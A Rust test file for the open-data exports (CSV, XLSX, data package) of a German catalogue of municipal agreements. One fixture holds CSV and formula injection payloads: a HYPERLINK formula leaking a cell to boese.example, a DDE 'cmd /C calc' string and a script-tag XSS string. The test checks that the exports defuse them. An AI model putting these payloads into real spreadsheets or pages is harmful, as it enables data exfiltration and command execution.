//! The tables of open data, read back with readers of others: the `csv` crate, calamine, scraper.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Cursor;
use std::sync::LazyLock;

use calamine::{Data, Reader, Xlsx};
use scraper::{Html, Selector};
use serde_json::Value;
use sha2::{Digest, Sha256};
use verbund::emit::Content;
use verbund::pipeline::{self, Checked};
use verbund::plan::Job;
use verbund::source::SourceTree;

use crate::support::{EXAMPLE, EXAMPLE_SITE, check, example_page, render, report, words};

/// The files of open data by their names.
fn exports(checked: &Checked) -> BTreeMap<String, Vec<u8>> {
    let planned = checked.plan.files.iter().filter(|file| matches!(file.job, Job::Export(_)));
    let bytes = |file| match pipeline::render_one(checked, file).expect("the theme is in order") {
        Content::Bytes(bytes) => bytes,
        Content::Copy(path) => panic!("{path} is made"),
    };
    planned.map(|file| (file.path.rsplit('/').next().expect("a name").to_string(), bytes(file))).collect()
}

static EXPORTS: LazyLock<BTreeMap<String, Vec<u8>>> = LazyLock::new(|| exports(&EXAMPLE));

/// The rows of a table by the names of its columns.
type Rows = Vec<BTreeMap<String, String>>;

fn rows(bytes: &[u8], between: u8) -> Rows {
    let mut reader = csv::ReaderBuilder::new().delimiter(between).flexible(false).from_reader(bytes);
    let head: Vec<String> = reader.headers().expect("a head").iter().map(str::to_string).collect();
    let row = |row: csv::StringRecord| head.iter().cloned().zip(row.iter().map(str::to_string)).collect();
    reader.records().map(|record| row(record.expect("as many cells as columns"))).collect()
}

fn table(name: &str) -> Rows {
    rows(&EXPORTS[name], b',')
}

/// Whether every line ends with CR LF, and no quotation mark stands in a cell without marks (RFC 4180, 2.1–2.7).
fn is_rfc_4180(text: &str) -> bool {
    let (mut quoted, mut before) = (false, '\n');
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
            }
            '"' if quoted => {
                if !matches!(chars.peek(), Some(',' | '\r')) {
                    return false;
                }
                quoted = false;
            }
            '"' if matches!(before, ',' | '\n') => quoted = true,
            '"' => return false,
            '\n' if !quoted && before != '\r' => return false,
            '\r' if !quoted && chars.peek() != Some(&'\n') => return false,
            _ => {}
        }
        before = c;
    }
    !quoted && text.ends_with("\r\n")
}

#[test]
fn the_check_of_rfc_4180_finds_what_is_wrong() {
    for right in ["a,b\r\n1,\"x \"\"y\"\", z\"\r\n", "a\r\n\"1\n2\"\r\n"] {
        assert!(is_rfc_4180(right), "{right:?}");
    }
    for wrong in ["a,b\n1,2\n", "a\r\nx\"y\r\n", "a\r\n\"x\"y\r\n", "a\r\n\"x", "a,b"] {
        assert!(!is_rfc_4180(wrong), "{wrong:?}");
    }
}

#[test]
fn the_tables_for_programs_are_rfc_4180_and_hold_the_whole_catalogue() {
    for name in ["vereinbarungen.csv", "beteiligungen.csv", "partner.csv", "themen.csv"] {
        let text = std::str::from_utf8(&EXPORTS[name]).expect("UTF-8");
        assert!(is_rfc_4180(text), "{name}");
        assert!(!text.starts_with('\u{feff}'), "{name}");
    }
    let agreements = table("vereinbarungen.csv");
    assert_eq!((agreements.len(), table("partner.csv").len()), (106, 114));
    let page = words(example_page("/themen/"));
    let topics = table("themen.csv");
    assert!(topics.len() >= 10 && topics.iter().all(|topic| page.contains(&topic["short"])), "{}", topics.len());
    let boenen = agreements.iter().find(|row| row["id"] == "ogs-elternbeitraege-boenen").expect("it is in the catalogue");
    assert_eq!(boenen["title"], "Abrechnung der OGS-Elternbeiträge für die Gemeinde Bönen");
    assert_eq!((&*boenen["status"], &*boenen["topics"]), ("active", "bildung|soziales"));
    assert_eq!((&*boenen["start"], &*boenen["start_edtf"]), ("01.08.2008", "2008-08-01"));
    assert_eq!(boenen["page"], "https://verbund.example/vereinbarungen/ogs-elternbeitraege-boenen/");
}

#[test]
fn every_participation_of_the_fact_sheets_is_a_row() {
    let participations = table("beteiligungen.csv");
    let section = "section[aria-labelledby=s-participants]";
    let rows = selector(&format!("{section} table > tbody > tr, {section} ul.names > li"));
    let members = selector(&format!("{section} th details a"));
    let mut counted = 0;
    for agreement in table("vereinbarungen.csv") {
        let page = Html::parse_document(example_page(&format!("/vereinbarungen/{}/", agreement["id"])));
        let shown = page.select(&rows).count() + page.select(&members).count();
        let listed = participations.iter().filter(|row| row["agreement"] == agreement["id"]).count();
        assert_eq!(listed, shown, "{}", agreement["id"]);
        counted += shown;
    }
    assert_eq!(counted, participations.len());
    assert!(counted > 400, "{counted}");
}

fn selector(text: &str) -> Selector {
    Selector::parse(text).expect("a selector")
}

#[test]
fn ids_tell_rows_apart_and_lead_to_other_tables() {
    let ids = |name: &str| table(name).iter().map(|row| row["id"].clone()).collect::<BTreeSet<String>>();
    let (agreements, partners, topics) = (ids("vereinbarungen.csv"), ids("partner.csv"), ids("themen.csv"));
    assert_eq!((agreements.len(), partners.len()), (106, 114));
    let participations = table("beteiligungen.csv");
    let numbered: BTreeSet<(&str, &str)> = participations.iter().map(|row| (&*row["agreement"], &*row["number"])).collect();
    assert_eq!(numbered.len(), participations.len());
    assert!(participations.iter().all(|row| agreements.contains(&row["agreement"])));
    assert!(participations.iter().all(|row| row["partner"].is_empty() || partners.contains(&row["partner"])));
    for row in table("vereinbarungen.csv") {
        assert!(row["topics"].split('|').all(|topic| topics.contains(topic)), "{row:?}");
        assert!(row["partners"].split('|').all(|partner| partner.is_empty() || partners.contains(partner)), "{row:?}");
    }
}

#[test]
fn the_tables_for_spreadsheets_speak_german() {
    let text = std::str::from_utf8(&EXPORTS["vereinbarungen-excel.csv"]).expect("UTF-8");
    let text = text.strip_prefix('\u{feff}').expect("a byte order mark");
    assert!(text.starts_with("Kennung;Titel;Zusatz;Zusammenfassung;Status;Themen;"), "{text:.80}");
    let rows = rows(text.as_bytes(), b';');
    assert_eq!(rows.len(), 106);
    let boenen = rows.iter().find(|row| row["Kennung"] == "ogs-elternbeitraege-boenen").expect("it is in the catalogue");
    assert_eq!((&*boenen["Beginn"], &*boenen["Beginn frühestens"]), ("1. August 2008", "01.08.2008"));
    assert_eq!(boenen["Beteiligte"], "Gemeinde Bönen; Kreis Unna");
    assert!(boenen["Themen"].contains("; "), "{}", boenen["Themen"]);
}

/// A catalogue with an agreement whose texts mean harm.
fn hostile() -> Checked {
    let text = r#"---
titel: '=HYPERLINK("https://boese.example/?x="&A1;"Klick")'
zusatz: "@SUM(1+1)*cmd|' /C calc'!A0"
zusammenfassung: "</script><script>alert(1)</script>; \"eins\", zwei"
thema: bildung
partner: [Kamen, Bönen]
kennungen: ["+49 1", "-2+3", "a|b"]
stichworte: ["\t=1+1"]
anmerkung: "Ein Satz;\nnoch einer."
---
"#;
    let checked = check(&[("agreements/boese.md", text)]);
    assert!(!checked.has_errors(), "{}", report(&checked));
    checked
}

#[test]
fn no_text_becomes_a_formula_or_breaks_a_row() {
    let files = exports(&hostile());
    let title = r#"=HYPERLINK("https://boese.example/?x="&A1;"Klick")"#;
    let programs = rows(&files["vereinbarungen.csv"], b',');
    let row = programs.iter().find(|row| row["id"] == "boese").expect("its row");
    assert_eq!(row["title"], title, "programs get the text as it is");
    assert_eq!(row["identifiers"], "+49 1|-2+3|a/b");
    assert_eq!(row["note"], "Ein Satz;\nnoch einer.", "a line break stays in its cell");
    let people = rows(files["vereinbarungen-excel.csv"].strip_prefix("\u{feff}".as_bytes()).expect("a mark"), b';');
    for row in &people {
        let harmful: Vec<_> = row.values().filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])).collect();
        assert!(harmful.is_empty(), "{harmful:?}");
    }
    let row = people.iter().find(|row| row["Kennung"] == "boese").expect("its row");
    assert_eq!(row["Titel"], format!("'{title}"));
    assert_eq!(row["Aktenzeichen und Kennungen"], "'+49 1; -2+3; a|b");
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(&files["katalog.xlsx"])).expect("a workbook");
    for name in book.sheet_names() {
        assert!(book.worksheet_formula(&name).expect("a sheet").is_empty(), "{name}");
    }
    let sheet = book.worksheet_range("Vereinbarungen").expect("a sheet");
    assert!(sheet.rows().any(|row| row[1] == Data::String(title.to_string())));
}

#[test]
fn the_workbook_has_a_sheet_for_each_table_and_says_where_it_comes_from() {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(&EXPORTS["katalog.xlsx"])).expect("a workbook");
    assert_eq!(book.sheet_names(), ["Vereinbarungen", "Beteiligungen", "Partner", "Themen", "Über diese Daten"]);
    for (sheet, file) in [("Vereinbarungen", "vereinbarungen"), ("Beteiligungen", "beteiligungen"), ("Partner", "partner")] {
        let range = book.worksheet_range(sheet).expect("a sheet");
        assert_eq!(range.height() - 1, table(&format!("{file}.csv")).len(), "{sheet}");
    }
    let partners = book.worksheet_range("Partner").expect("a sheet");
    let place = |title: &str| partners.rows().next().expect("a head").iter().position(|cell| *cell == title).expect("a column");
    let (name, ags, count) = (place("Name"), place("Amtlicher Gemeindeschlüssel"), place("Zahl der Vereinbarungen"));
    let boenen = partners.rows().find(|row| row[name] == "Gemeinde Bönen").expect("a partner");
    assert_eq!(boenen[ags], Data::String("05978008".to_string()), "the key is a text with its zero");
    assert!(matches!(boenen[count], Data::Float(n) if n > 1.0), "{:?}", boenen[count]);
    let agreements = book.worksheet_range("Vereinbarungen").expect("a sheet");
    let earliest =
        agreements.rows().next().expect("a head").iter().position(|cell| *cell == "Beginn frühestens").expect("a column");
    assert!(agreements.rows().any(|row| matches!(row[earliest], Data::DateTime(_))), "days can be sorted");
    let about = book.worksheet_range("Über diese Daten").expect("a sheet");
    let text: Vec<String> = about.rows().map(|row| row.iter().map(ToString::to_string).collect::<Vec<_>>().join(" ")).collect();
    let text = text.join("\n");
    for part in
        ["Herausgeber Projekt Verbund", "Keine Lizenz angegeben", "Stand 1. November 2026", "https://verbund.example/daten/"]
    {
        assert!(text.contains(part), "{part}: {text:.900}");
    }
}

#[test]
fn the_same_catalogue_gives_the_same_bytes() {
    assert!(*EXPORTS == exports(&EXAMPLE));
}

#[test]
fn the_data_package_knows_size_checksum_and_columns_of_every_file() {
    let package: Value = serde_json::from_slice(&EXPORTS["datapackage.json"]).expect("JSON");
    let resources = package["resources"].as_array().expect("a list");
    assert_eq!(resources.len(), 4);
    for resource in resources {
        let bytes = &EXPORTS[resource["path"].as_str().expect("a path")];
        assert_eq!(resource["bytes"], bytes.len());
        assert_eq!(resource["hash"], format!("sha256:{}", checksum(bytes)));
        let fields = resource["schema"]["fields"].as_array().expect("a list");
        let names: Vec<&str> = fields.iter().map(|field| field["name"].as_str().expect("a name")).collect();
        let head = std::str::from_utf8(bytes).expect("UTF-8").lines().next().expect("a head");
        assert_eq!(names.join(","), head);
    }
    assert_eq!(package.get("licenses"), None, "nobody has stated a licence");
}

fn checksum(bytes: &[u8]) -> String {
    Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
}

#[test]
fn the_page_lists_every_file_with_its_checksum_and_every_column() {
    let page = words(example_page("/daten/"));
    for (name, bytes) in EXPORTS.iter() {
        assert!(page.contains(&checksum(bytes)), "{name}");
        assert!(page.contains(name.as_str()), "{name}");
        assert!(example_page("/daten/").contains(&format!("href=\"/daten/{name}\"")), "{name}");
    }
    for name in ["vereinbarungen.csv", "beteiligungen.csv", "partner.csv", "themen.csv"] {
        let keys = table(name).remove(0).into_keys();
        keys.for_each(|key| assert!(page.contains(&format!(" {key} ")), "{key}"));
    }
    assert!(page.contains("106 Zeilen") && page.contains("114 Zeilen"));
    assert!(page.contains("Keine Lizenz angegeben"));
    assert!(!page.contains("column_") && !page.contains("export_") && !page.contains("data_"), "a word is missing");
    assert!(example_page("/").contains("<a href=\"/daten/\">Offene Daten</a>"));
    assert!(EXAMPLE_SITE["sitemap.xml"].contains("<loc>https://verbund.example/daten/</loc>"));
}

#[test]
fn a_stated_licence_stands_on_the_page_and_in_the_package() {
    let settings =
        "titel: Probe\nadresse: \"https://probe.example/\"\nprofil: beispiel\nlizenz: DL-DE/BY-2-0\nweitere_sprachen: [en]\n";
    let checked = check(&[("verbund.yaml", settings)]);
    assert!(!checked.has_errors(), "{}", report(&checked));
    let site = render(&checked);
    let name = "Datenlizenz Deutschland – Namensnennung – Version 2.0";
    for page in ["daten/index.html", "en/data/index.html"] {
        assert!(
            site[page].contains(&format!("<a href=\"https://www.govdata.de/dl-de/by-2-0\" rel=\"license\">{name}</a>")),
            "{page}"
        );
    }
    let package: Value = serde_json::from_str(&site["daten/datapackage.json"]).expect("JSON");
    assert_eq!(package["licenses"][0]["name"], "DL-DE-BY-2.0");
    let english = words(&site["en/data/index.html"]);
    assert!(english.contains("For Excel and LibreOffice") && !english.contains("column_") && !english.contains("export_"));
    assert!(site["en/data/index.html"].contains("href=\"/daten/katalog.xlsx\""), "all languages share the files");
}

#[test]
fn lists_can_be_had_as_tables_in_the_language_of_their_page() {
    let page = Html::parse_document(example_page("/partner/kamen/"));
    let entries = page.select(&selector("ul.entries > li a[href^='/vereinbarungen/']")).count();
    let text = &EXAMPLE_SITE["partner/kamen/vereinbarungen.csv"];
    let rows = rows(text.trim_start_matches('\u{feff}').as_bytes(), b';');
    assert!(rows.len() > 10 && rows.len() <= entries, "{} {entries}", rows.len());
    assert!(
        rows.iter().all(|row| ["Beteiligte", "Geplante Beteiligte", "Frühere Beteiligte"]
            .iter()
            .any(|c| row[*c].contains("Stadt Kamen")))
    );
    assert!(example_page("/partner/kamen/").contains("href=\"/partner/kamen/vereinbarungen.csv\""));
    let settings = "titel: Probe\nadresse: \"https://probe.example/\"\nprofil: beispiel\nweitere_sprachen: [en]\n";
    let site = render(&check(&[("verbund.yaml", settings)]));
    assert!(site["en/topics/bildung/agreements.csv"].starts_with("\u{feff}Id;Title;Subtitle;"));
    assert!(site["themen/bildung/vereinbarungen.csv"].starts_with("\u{feff}Kennung;Titel;"));
}

/// The names of the columns of a table.
fn heads(bytes: &[u8], between: u8) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().delimiter(between).from_reader(bytes);
    reader.headers().expect("a head").iter().map(str::to_string).collect()
}

#[test]
fn no_two_columns_of_a_table_bear_one_name_in_any_language() {
    for (language, tables) in [
        ("de", ["vereinbarungen", "beteiligungen", "partner", "themen"]),
        ("en", ["agreements", "participations", "partners", "topics"]),
    ] {
        let settings = format!("titel: Probe\nadresse: \"https://probe.example/\"\nprofil: beispiel\nsprache: {language}\n");
        let files = exports(&check(&[("verbund.yaml", &settings)]));
        for table in tables {
            let people = heads(&files[&format!("{table}-excel.csv")], b';');
            let programs = heads(&files[&format!("{table}.csv")], b',');
            for head in [&people, &programs] {
                assert_eq!(head.iter().collect::<BTreeSet<_>>().len(), head.len(), "{head:?}");
                assert!(head.iter().all(|name| !name.starts_with("column_")), "{head:?}");
            }
        }
        let package: Value = serde_json::from_slice(&files["datapackage.json"]).expect("JSON");
        for resource in package["resources"].as_array().expect("a list") {
            for field in resource["schema"]["fields"].as_array().expect("a list") {
                let about = field["description"].as_str().expect("a text");
                assert!(about.len() > 10 && !about.contains("column_"), "{field}");
            }
        }
    }
}

#[test]
fn an_empty_catalogue_has_tables_with_heads_alone() {
    let settings = "titel: \"???\"\nadresse: \"https://probe.example/\"\nprofil: beispiel\n";
    let tree = SourceTree::of(&[("verbund.yaml", settings)]);
    let checked = crate::support::check_tree(tree, crate::support::TODAY);
    let files = exports(&checked);
    assert_eq!(rows(&files["beteiligungen.csv"], b',').len(), 0);
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(&files["katalog.xlsx"])).expect("a workbook");
    assert_eq!(book.worksheet_range("Partner").expect("a sheet").height(), 1);
    let package: Value = serde_json::from_slice(&files["datapackage.json"]).expect("JSON");
    assert_eq!(package["name"], "verbund");
}
